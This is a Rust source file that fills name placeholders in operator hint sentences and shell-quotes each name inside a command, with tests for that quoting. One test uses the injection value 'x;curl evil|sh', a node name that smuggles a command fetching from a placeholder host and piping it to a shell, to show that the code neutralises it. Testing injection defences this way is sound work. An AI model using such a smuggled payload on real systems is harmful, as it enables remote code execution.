//! Sentences with places for names, and hints made of them: a name inside a command is quoted by itself.

use std::fmt::Display;

use crate::quoted::quoted;
use crate::shown::Shown;

/// Where in a sentence commands stand, that a person may paste.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Commands {
    /// Between backticks.
    InBackticks,
    /// Anywhere: it is a hint, or nothing but commands.
    Anywhere,
}

/// What stands for a place.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Value {
    /// A name from outside.
    Name(Shown),
    /// Words of our own, commands too.
    Ours(String),
}

/// Puts values into the places of a sentence: `{name}`, of small letters, digits, `_`, `-` and `.`. A name inside a
/// command is quoted for a shell where it needs it; one that no quotes make safe is left out, and its place's name stands
/// there in capitals, as in other hints (`FILE`). A place without a value stays as it is: `{via: HOST}` is a line of the
/// site file.
pub fn fill(sentence: &str, commands: Commands, value: impl Fn(&str) -> Option<Value>) -> String {
    let mut out = String::with_capacity(sentence.len());
    let mut in_command = commands == Commands::Anywhere;
    let mut rest = sentence;
    while let Some(at) = rest.find(['{', '`']) {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        if let Some(after) = rest.strip_prefix('`') {
            out.push('`');
            in_command = commands == Commands::Anywhere || !in_command;
            rest = after;
            continue;
        }
        let found = place(rest).and_then(|name| Some((name, value(name)?)));
        if let Some((name, value)) = found {
            out.push_str(&word(name, value, in_command));
            rest = &rest[name.len() + 2..];
        } else {
            out.push('{');
            rest = &rest[1..];
        }
    }
    out + rest
}

/// Returns the name of the place that a text begins with.
fn place(text: &str) -> Option<&str> {
    let (name, _) = text.strip_prefix('{')?.split_once('}')?;
    let letter = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '_' | '-' | '.');
    (!name.is_empty() && name.chars().all(letter)).then_some(name)
}

fn word(place: &str, value: Value, in_command: bool) -> String {
    match value {
        Value::Ours(words) => words,
        Value::Name(name) if in_command => quoted(&name).unwrap_or_else(|| place.to_uppercase()),
        Value::Name(name) => name.into(),
    }
}

/// Returns the places of a sentence that stand in a command, of those that `is_name` knows, yet where no quotes would be
/// put around a name: outside of backticks, or inside of quotes of the sentence's own. A test walks all sentences with it.
pub fn unquoted(sentence: &str, commands: Commands, is_name: impl Fn(&str) -> bool) -> Vec<&str> {
    let mut found = Vec::new();
    let mut rest = sentence;
    while let Some(at) = rest.find('{') {
        let before = &sentence[..sentence.len() - rest.len() + at];
        rest = &rest[at..];
        if let Some(name) = place(rest).filter(|name| is_name(name)) {
            let backticks = before.matches('`').count() % 2 == 1;
            let command = match commands {
                Commands::Anywhere => before,
                Commands::InBackticks if backticks => before.rsplit('`').next().unwrap_or_default(),
                Commands::InBackticks => "",
            };
            let in_quotes = is_in_quotes(command);
            if in_quotes || (commands == Commands::InBackticks && !backticks && follows_program(before)) {
                found.push(name);
            }
        }
        rest = &rest[1..];
    }
    found
}

/// Returns whether what comes next would stand inside a shell's quotes. An apostrophe inside a word opens none.
fn is_in_quotes(before: &str) -> bool {
    let mut open = None;
    let mut last = ' ';
    for c in before.chars() {
        match open {
            Some(quote) if c == quote => open = None,
            None if c == '"' || (c == '\'' && !last.is_alphanumeric()) => open = Some(c),
            _ => {}
        }
        last = c;
    }
    open.is_some()
}

/// The programs that our sentences tell a person to run.
const PROGRAMS: &[&str] = &[
    "kubectl",
    "crictl",
    "ctr",
    "systemctl",
    "journalctl",
    "etcdctl",
    "sysctl",
    "iptables",
    "openssl",
    "curl",
    "ssh",
    "ssh-keygen",
    "sha256sum",
    "tar",
    "docker",
    "skopeo",
    "umount",
    "mount",
    "chmod",
    "chown",
    "rm",
    "df",
    "ls",
    "verifier check",
    "verifier unpack",
    "verifier site",
    "verifier load",
    "verifier run",
    "verifier smoke",
    "verifier explain",
    "verifier clean",
    "bundler init",
    "bundler build",
    "bundler check",
    "bundler inspect",
    "bundler cache",
    "ip link",
    "ip addr",
    "ip route",
];

/// Returns whether a program stands before the end of a text, with nothing between that ends a command. One that is only
/// spoken of ("the rules of iptables on the host") runs nothing.
fn follows_program(before: &str) -> bool {
    let command = before
        .rsplit([';', ',', ':', '(', ')'])
        .next()
        .unwrap_or_default();
    let runs = |(at, program): (usize, &str)| {
        let begins = command[..at].is_empty() || command[..at].ends_with(' ');
        let arguments = command[at + program.len()..].strip_prefix(' ');
        let spoken = |rest: &str| ["of ", "on ", "in "].iter().any(|word| rest.starts_with(word));
        begins && arguments.is_some_and(|rest| !spoken(rest))
    };
    PROGRAMS
        .iter()
        .any(|program| command.match_indices(program).any(runs))
}

/// What a person can do next. Made of a sentence of ours and of names that are quoted where they stand in its commands,
/// between backticks; no text that was put together elsewhere becomes one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hint(String);

impl Hint {
    /// Returns the sentence with names in its places.
    pub fn new(sentence: &'static str, names: &[(&str, &dyn Display)]) -> Self {
        let is_name = |place: &str| names.iter().any(|(name, _)| *name == place);
        debug_assert!(
            unquoted(sentence, Commands::InBackticks, is_name).is_empty(),
            "a command without backticks: {sentence}"
        );
        Self(fill(sentence, Commands::InBackticks, |place| {
            let (_, name) = names.iter().find(|(name, _)| *name == place)?;
            Some(Value::Name(Shown::new(*name)))
        }))
    }

    /// Returns the words.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl From<Hint> for String {
    fn from(hint: Hint) -> Self {
        hint.0
    }
}

impl From<&'static str> for Hint {
    fn from(sentence: &'static str) -> Self {
        Self(sentence.to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filled(sentence: &str, commands: Commands, name: &str) -> String {
        fill(sentence, commands, |place| match place {
            "node" => Some(Value::Name(Shown::new(name))),
            "journal.kubelet" => Some(Value::Ours("journalctl -u kubelet".to_owned())),
            _ => None,
        })
    }

    #[test]
    fn a_name_is_quoted_in_commands_and_nowhere_else() {
        let sentence = "{node} is gone: `kubectl delete node {node}` removes {node}";
        assert_eq!(
            filled(sentence, Commands::InBackticks, "x;curl evil|sh"),
            "x;curl evil|sh is gone: `kubectl delete node 'x;curl evil|sh'` removes x;curl evil|sh"
        );
        assert_eq!(
            filled(
                "kubectl get node {node}; {journal.kubelet}",
                Commands::Anywhere,
                "a b"
            ),
            "kubectl get node 'a b'; journalctl -u kubelet"
        );
        assert_eq!(
            filled("curl http://{node}:80", Commands::Anywhere, "node-0"),
            "curl http://node-0:80"
        );
    }

    #[test]
    fn a_name_that_no_quotes_make_safe_leaves_its_place_in_capitals() {
        for name in ["--all", "a\x1bb", "\u{202e}x"] {
            assert_eq!(
                filled("kubectl delete node {node}", Commands::Anywhere, name),
                "kubectl delete node NODE"
            );
        }
        assert_eq!(
            filled("ip link set {node} up", Commands::Anywhere, ""),
            "ip link set '' up"
        );
    }

    #[test]
    fn braces_that_are_no_place_stay() {
        for sentence in [
            "api: {via: HOST}",
            "-o jsonpath='{.spec.ports[0].nodePort}'",
            "{",
            "{}",
            "{{unknown}}",
            "a{",
        ] {
            assert_eq!(filled(sentence, Commands::Anywhere, "x"), sentence);
        }
        assert_eq!(
            filled("registries: {\"{node}\": {ca: FILE}}", Commands::InBackticks, "r"),
            "registries: {\"r\": {ca: FILE}}"
        );
    }

    #[test]
    fn a_place_in_a_command_that_nothing_would_quote_is_told() {
        let name = |place: &str| place == "node";
        let told = |sentence, commands| unquoted(sentence, commands, name).len();
        for good in [
            "{node} is gone",
            "`kubectl get node {node}`",
            "kubectl is there: {node}",
            "see the verifier for {node}",
        ] {
            assert_eq!(told(good, Commands::InBackticks), 0, "{good}");
        }
        for bad in [
            "kubectl get node {node}",
            "run verifier clean --run {node}",
            "`ssh a 'rm {node}'`",
            "`x` kubectl x {node}",
        ] {
            assert_eq!(told(bad, Commands::InBackticks), 1, "{bad}");
        }
        assert_eq!(
            told(
                "ssh {node} 'systemctl status x'; the node's {node}",
                Commands::Anywhere
            ),
            0
        );
        assert_eq!(told("ssh a 'ip link show {node}'", Commands::Anywhere), 1);
    }

    #[test]
    fn hints_quote_what_they_name() {
        let hint = Hint::new(
            "copy {file} to a disk; `sha256sum {file}`",
            &[("file", &"a b.tar")],
        );
        assert_eq!(hint.as_str(), "copy a b.tar to a disk; `sha256sum 'a b.tar'`");
    }
}
